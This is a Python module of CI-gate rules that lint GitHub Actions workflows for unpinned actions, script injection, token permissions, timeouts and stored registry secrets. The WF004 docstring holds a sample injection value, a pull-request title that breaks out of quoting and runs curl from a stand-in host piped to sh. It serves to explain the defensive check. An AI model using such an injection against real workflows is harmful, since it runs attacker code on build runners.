"""workflows gate, rules for every workflow and composite action: pins, injection, permissions.

Each rule takes a parsed file (``ci_gates.parsers.ghyaml``) and returns its findings; ``workflows.run``
calls them on ``.github/workflows/*`` and on the composite actions. They are the only place
these things are checked: zizmor's ``unpinned-uses`` and its ``template-injection`` findings
on ``run:`` are dropped by the gate because WF003, WF004 and WF005 own them.
"""

from __future__ import annotations

import re

from ci_gates.core.findings import WARNING, Finding, finding_of, rule
from ci_gates.parsers import ghadvice, ghexpr, ghyaml

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

SHA_PIN = re.compile(r"^[^@\s]+@[0-9a-f]{40}$")
# `uses:` of this repository's own actions and workflows: a workspace path, or `$/` (the
# repository at the running commit, no checkout needed).
LOCAL = ("./", "$/")
PUBLISH_ACTIONS = (
    "pypa/gh-action-pypi-publish",
    "rust-lang/crates-io-auth-action",
    "actions/attest-build-provenance",
    "actions/attest",
)
PUBLISH_RUN = re.compile(
    r"^nox -s (?:\w+_)?publish(?:_\w+)?(?:\s|$)"
    r"|\b(?:uv publish|twine upload|cargo publish|maturin (?:publish|upload))\b",
    re.MULTILINE,
)
REGISTRY_SECRET = re.compile(r"PYPI|CRATES|CARGO|TWINE|MATURIN|REGISTRY", re.IGNORECASE)
REGISTRY_KEYS = re.compile(
    r"^(?:CARGO_REGISTRY_TOKEN|CARGO_REGISTRIES_\w+_TOKEN|TWINE_PASSWORD|UV_PUBLISH_TOKEN"
    r"|UV_PUBLISH_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD|PYPI_\w*TOKEN)$"
)


@rule("WF003", gate="workflows")
def unpinned_uses(rel: str, node: Any) -> Finding | None:
    """A ``uses:`` is not pinned to a full commit SHA (or a container image to a digest).

    A tag or branch can be moved to other code after review; a 40-hex commit SHA cannot.
    Write ``owner/repo@<sha> # vX.Y.Z`` (dependabot keeps SHA pins current and the comment
    readable). Local actions and workflows (``./path``, and ``$/path``: this repository at
    the running commit) are part of the repository and need no pin. The project's own
    ``# zizmor: ignore[unpinned-uses]`` on the line is honoured, as zizmor would.
    """
    ref = (ghyaml.scalar(node) or "").strip()
    if not ref or ref.startswith(LOCAL) or SHA_PIN.match(ref):
        return None
    if ref.startswith("docker://"):
        if "@sha256:" in ref:
            return None
        message, fix = f"{ref} is not pinned to an image digest", "pin it as image@sha256:<digest>"
    else:
        message = f"{ref} is not pinned to a full commit SHA"
        fix = "use owner/repo@<40-hex sha> # vX.Y.Z (dependabot keeps it current)"
    return finding_of(unpinned_uses, message, rel, ghyaml.line(node), fix=fix)


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _expression_finding(
    rel: str, parsed: ghyaml.Parsed, step: ghyaml.Step, run: Any, index: int, expr: str
) -> Finding:
    """One ``${{ expr }}`` of a ``run:``: WF004 when an attacker controls it, else WF005."""
    bad = ghexpr.expression_untrusted(expr, parsed.root, step)
    script = ghyaml.scalar(run) or ""
    starts = [m.start() for m in ghexpr.EXPRESSION.finditer(script)]
    kind, detail = ghadvice.quote_context(script, starts[index])
    wanted = _squeezed(f"${{{{{expr}}}}}")
    env = ghyaml.items(ghyaml.get(step.node, "env"))
    existing = next((k for k, v in env if _squeezed(ghyaml.scalar(v) or "") == wanted), None)
    fix = ghadvice.rewrite(
        expr,
        kind,
        detail,
        step_shell(parsed.root, step),
        values=ghexpr.known_values(expr, parsed.root, step),
        existing=existing,
        container=ghyaml.get(step.job, "container") is not None,
    )
    where = ghyaml.offsets(parsed.text, run, "${{")
    line, column = where[index] if index < len(where) else (ghyaml.line(run), 0)
    shown = f"${{{{ {expr.strip()} }}}}"
    if bad:
        who = ", ".join(bad)
        message = f"{shown} inside run: ({who} can be chosen by an attacker: script injection)"
        return Finding("WF004", message, rel, line, column, fix)
    message = f"{shown} inside run: (no attacker controls it, but GitHub pastes it into the script)"
    return Finding("WF005", message, rel, line, column, fix, severity=WARNING)


def run_expressions(rel: str, parsed: ghyaml.Parsed) -> list[Finding]:
    """A WF004 or WF005 finding for every ``${{ }}`` inside a ``run:`` of the file."""
    out = []
    for step in ghyaml.steps(parsed.root):
        run = ghyaml.get(step.node, "run")
        for index, m in enumerate(ghexpr.EXPRESSION.finditer(ghyaml.scalar(run) or "")):
            out.append(_expression_finding(rel, parsed, step, run, index, m.group(1)))
    return out


def step_shell(doc: Any, step: ghyaml.Step) -> str | None:
    """The shell a ``run:`` step uses: its ``shell:``, else the job's, else the workflow's default."""
    for node in (
        step.node,
        ghyaml.path(step.job, "defaults", "run"),
        ghyaml.path(doc, "defaults", "run"),
    ):
        shell = ghyaml.scalar(ghyaml.get(node, "shell"))
        if shell:
            return shell
    runs_on = ghyaml.scalar(ghyaml.get(step.job, "runs-on")) or ""
    m = re.fullmatch(r"\s*\$\{\{(.*)\}\}\s*", runs_on)
    values = ghexpr.known_values(m.group(1), doc, step) if m else [runs_on]
    windows = bool(values) and all("windows" in v.lower() for v in values or [])
    return "pwsh" if windows else "bash"  # GitHub's default shell on the runner


@rule("WF004", gate="workflows")
def injection_in_run(rel: str, parsed: ghyaml.Parsed) -> list[Finding]:
    """A ``${{ }}`` inside a ``run:`` script carries a value an attacker can choose.

    GitHub pastes the expression's value into the script text before the shell parses it,
    so a pull-request title such as ``a"; curl evil | sh; "`` runs as code. Pass the value
    through ``env:`` and read the variable in the script, where the shell treats it as data.
    The fix names where the expression stands (quotes, a here-document, the shell) so the
    rewrite keeps the step's behaviour. What counts as attacker-controlled is documented in
    ``ci/ghexpr.py``: inputs of a composite action, ``github.event`` text, branch names,
    step and job outputs, and anything the gate cannot resolve. The project's own
    ``# zizmor: ignore[template-injection]`` on the line is honoured, as zizmor would.
    """
    return [f for f in run_expressions(rel, parsed) if f.rule == "WF004"]


@rule("WF005", severity=WARNING, gate="workflows")
def trusted_expression_in_run(rel: str, parsed: ghyaml.Parsed) -> list[Finding]:
    """A ``${{ }}`` inside a ``run:`` script whose value no attacker controls (a warning).

    ``runner.temp``, ``github.workspace``, ``github.action_path``, a literal matrix, a typed
    boolean input and the like cannot inject code, so this is not an error. It is still worth
    moving: the runner already sets most of them as variables (``$RUNNER_TEMP``,
    ``$GITHUB_WORKSPACE``), and a script without ``${{ }}`` reads the same locally. Ignore
    this rule on its own (``[tool.ci-gates] ignore = { WF005 = "reason" }``) to allow them.
    """
    return [f for f in run_expressions(rel, parsed) if f.rule == "WF005"]


def _triggers(doc: Any) -> set[str]:
    """The events of ``on:`` (a name, a list of names, or a mapping)."""
    on = ghyaml.get(doc, "on")
    if ghyaml.scalar(on) is not None:
        return {str(ghyaml.scalar(on))}
    if ghyaml.is_seq(on):
        return {str(ghyaml.scalar(n)) for n in on.value}
    return {name for name, _ in ghyaml.items(on)}


@rule("WF006", gate="workflows")
def no_workflow_permissions(rel: str, doc: Any) -> Finding | None:
    """A workflow does not set ``permissions:`` at the top level.

    Without it every job gets the repository's default token scope, often write-all. Set
    ``permissions: {}`` (or ``contents: read``) and grant more per job where needed. A
    reusable workflow that only ``workflow_call`` starts gets its caller's token, which the
    caller's file limits, and a workflow whose every job sets ``permissions:`` has no job
    left on the default: neither is reported.
    """
    jobs = ghyaml.jobs(doc)
    every_job = bool(jobs) and all(ghyaml.get(job, "permissions") is not None for _, job in jobs)
    if (
        ghyaml.get(doc, "permissions") is not None
        or every_job
        or _triggers(doc) == {"workflow_call"}
    ):
        return None
    return finding_of(
        no_workflow_permissions,
        "no workflow-level permissions",
        rel,
        1,
        fix="add `permissions: {}` or `permissions: contents: read` at the top level",
    )


@rule("WF007", gate="workflows")
def job_without_timeout(rel: str, doc: Any) -> list[Finding]:
    """A job that runs steps has no ``timeout-minutes`` (house style ``job-timeouts``).

    GitHub's default is 6 hours: a hung step holds a runner (and its minutes) that long.
    """
    jobs = ghyaml.get(doc, "jobs")
    return [
        finding_of(
            job_without_timeout,
            f"job {name} has no timeout-minutes",
            rel,
            ghyaml.key_line(jobs, name),
            fix="add `timeout-minutes:` with a bound a little above its usual duration",
        )
        for name, job in ghyaml.jobs(doc)
        if ghyaml.get(job, "steps") is not None and ghyaml.get(job, "timeout-minutes") is None
    ]


def _grants_id_token(perms: Any) -> bool:
    if ghyaml.scalar(perms) is not None:
        return ghyaml.scalar(perms) == "write-all"
    return ghyaml.scalar(ghyaml.get(perms, "id-token")) == "write"


@rule("WF008", gate="workflows")
def id_token_at_workflow_level(rel: str, doc: Any) -> Finding | None:
    """``id-token: write`` (or ``write-all``) is granted at workflow level.

    Every job could then mint an OIDC token that a registry's trusted publishing accepts.
    Grant it only on the publish job (``jobs.<id>.permissions``).
    """
    perms = ghyaml.get(doc, "permissions")
    if not _grants_id_token(perms):
        return None
    return finding_of(
        id_token_at_workflow_level,
        "id-token: write at workflow level gives every job an OIDC token",
        rel,
        ghyaml.key_line(perms, "id-token"),
        fix="grant it only on the publish job (jobs.<id>.permissions)",
    )


# Actions that never read the job's OIDC token: a job whose steps are only these (and ``run:``
# steps that neither publish nor request a token) has no use for ``id-token: write``.
NO_OIDC_ACTIONS = (
    "actions/checkout",
    "actions/cache",
    "actions/upload-artifact",
    "actions/download-artifact",
    "actions/setup-python",
    "actions/setup-node",
    "actions/setup-go",
    "actions/setup-java",
    "astral-sh/setup-uv",
    "dtolnay/rust-toolchain",
    "actions-rust-lang/setup-rust-toolchain",
    "Swatinem/rust-cache",
    "taiki-e/install-action",
    "pypa/cibuildwheel",
    "docker/setup-buildx-action",
    "docker/setup-qemu-action",
)
TOKEN_RUN = re.compile(r"ACTIONS_ID_TOKEN_REQUEST|\bgh attestation\b|\bcosign\b|\bsigstore\b")


def is_publish_job(job: Any) -> bool:
    """A job that publishes: a publish action, ``nox -s …publish…``, ``uv publish``, ``twine
    upload``, ``cargo publish`` (behind an ``environment:`` or not), or a call of a reusable
    workflow (whose own jobs the gate checks in that file)."""
    if ghyaml.scalar(ghyaml.get(job, "uses")):
        return True
    for step in ghyaml.seq(ghyaml.get(job, "steps")):
        uses = (ghyaml.scalar(ghyaml.get(step, "uses")) or "").split("@")[0]
        run = (ghyaml.scalar(ghyaml.get(step, "run")) or "").strip()
        if uses in PUBLISH_ACTIONS or PUBLISH_RUN.search(run):
            return True
    return False


def can_use_id_token(job: Any) -> bool:
    """Could a step of ``job`` use its OIDC token? It publishes (:func:`is_publish_job`),
    requests a token in a script, or runs an action not known to ignore the token."""
    if is_publish_job(job):
        return True
    for step in ghyaml.seq(ghyaml.get(job, "steps")):
        uses = (ghyaml.scalar(ghyaml.get(step, "uses")) or "").split("@")[0]
        if uses and not uses.startswith(LOCAL) and uses not in NO_OIDC_ACTIONS:
            return True
        if TOKEN_RUN.search(ghyaml.scalar(ghyaml.get(step, "run")) or ""):
            return True
    return False


@rule("WF009", gate="workflows")
def id_token_off_publish_job(rel: str, doc: Any) -> list[Finding]:
    """A job holds ``id-token: write`` but none of its steps can use the token.

    An OIDC token proves to every registry and cloud that trusts this repository that the job
    is this repository; the fewer jobs hold one, the fewer places a compromised step can use
    it. A job needs it when it publishes (a trusted-publishing or attestation action,
    ``nox -s …publish…``, ``uv publish``, ``twine upload``, ``cargo publish``), calls a
    reusable workflow, requests a token in a script (``ACTIONS_ID_TOKEN_REQUEST_URL``,
    ``gh attestation``, cosign), or runs an action that may log in with it (a cloud login, a
    token exchange). A job of checkouts, caches, setup actions and other scripts does not.
    (Which environment a publish job needs is ``release_doctor``'s business.)
    """
    out = []
    for name, job in ghyaml.jobs(doc):
        perms = ghyaml.get(job, "permissions")
        if _grants_id_token(perms) and not can_use_id_token(job):
            out.append(
                finding_of(
                    id_token_off_publish_job,
                    f"job {name} has id-token: write but no step that uses it",
                    rel,
                    ghyaml.key_line(perms, "id-token"),
                    fix="remove it (grant it only to the job that publishes or logs in with it)",
                )
            )
    return out


def _secrets(node: Any, key: str, publishing: bool) -> list[tuple[Any, str]]:
    """``(node, secret name)`` of registry credentials read from secrets under ``node``."""
    if ghyaml.is_map(node):
        uses = (ghyaml.scalar(ghyaml.get(node, "uses")) or "").split("@")[0]
        here = publishing or uses in PUBLISH_ACTIONS
        return [hit for k, v in ghyaml.items(node) for hit in _secrets(v, k, here)]
    if ghyaml.is_seq(node):
        return [hit for v in node.value for hit in _secrets(v, key, publishing)]
    out = []
    for name in re.findall(r"secrets\.([A-Za-z_][A-Za-z0-9_]*)", ghyaml.scalar(node) or ""):
        credential = publishing and key in ("password", "token", "api-token")
        if REGISTRY_SECRET.search(name) or REGISTRY_KEYS.match(key) or credential:
            out.append((node, name))
    return out


@rule("WF010", gate="workflows")
def registry_token_from_secrets(rel: str, doc: Any) -> list[Finding]:
    """A long-lived registry token is read from ``secrets`` (crates.io, PyPI, twine, uv, maturin).

    This project publishes with trusted publishing: a short-lived OIDC token minted by the
    publish job, which nothing else can reuse. A stored API token works from any machine
    that steals it. Configure trusted publishing on the registry and delete the secret.
    """
    return [
        finding_of(
            registry_token_from_secrets,
            f"reads the registry token secrets.{name}",
            rel,
            ghyaml.line(node),
            fix="publish with trusted publishing (an id-token: write publish job) and delete the secret",
        )
        for node, name in _secrets(doc, "", False)
    ]


def file_findings(rel: str, parsed: ghyaml.Parsed, workflow: bool) -> list[Finding]:
    """Every rule of this module on one parsed file (a workflow, or a composite action)."""
    doc = parsed.root
    uses = [ghyaml.get(s.node, "uses") for s in ghyaml.steps(doc)]
    uses += [ghyaml.get(job, "uses") for _, job in ghyaml.jobs(doc)]  # reusable workflows
    out = [f for node in uses if node is not None and (f := unpinned_uses(rel, node))]
    out += run_expressions(rel, parsed)
    out += registry_token_from_secrets(rel, doc)
    if workflow:
        out += [
            f
            for f in (no_workflow_permissions(rel, doc), id_token_at_workflow_level(rel, doc))
            if f
        ]
        out += job_without_timeout(rel, doc) + id_token_off_publish_job(rel, doc)
    out = [f for f in out if not zizmor_ignored(parsed.text, f)]
    return sorted(out, key=lambda f: (f.line, f.column, f.rule))


# The zizmor audit each rule stands in for (the gate drops zizmor's own finding of it).
ZIZMOR_AUDITS = {
    "WF003": "unpinned-uses",
    "WF004": "template-injection",
    "WF005": "template-injection",
}
_ZIZMOR_IGNORE = re.compile(r"#\s*zizmor:\s*ignore\[([^\]]*)\]")


def zizmor_ignored(text: str, finding: Finding) -> bool:
    """Did the project silence this finding's zizmor audit on its line (``# zizmor:
    ignore[template-injection]``)? A rule that stands in for a zizmor audit honours the
    project's own, reviewed, suppression of it."""
    audit = ZIZMOR_AUDITS.get(finding.rule)
    lines = text.splitlines()
    if audit is None or not 0 < finding.line <= len(lines):
        return False
    m = _ZIZMOR_IGNORE.search(lines[finding.line - 1])
    return m is not None and audit in {a.strip() for a in m.group(1).split(",")}
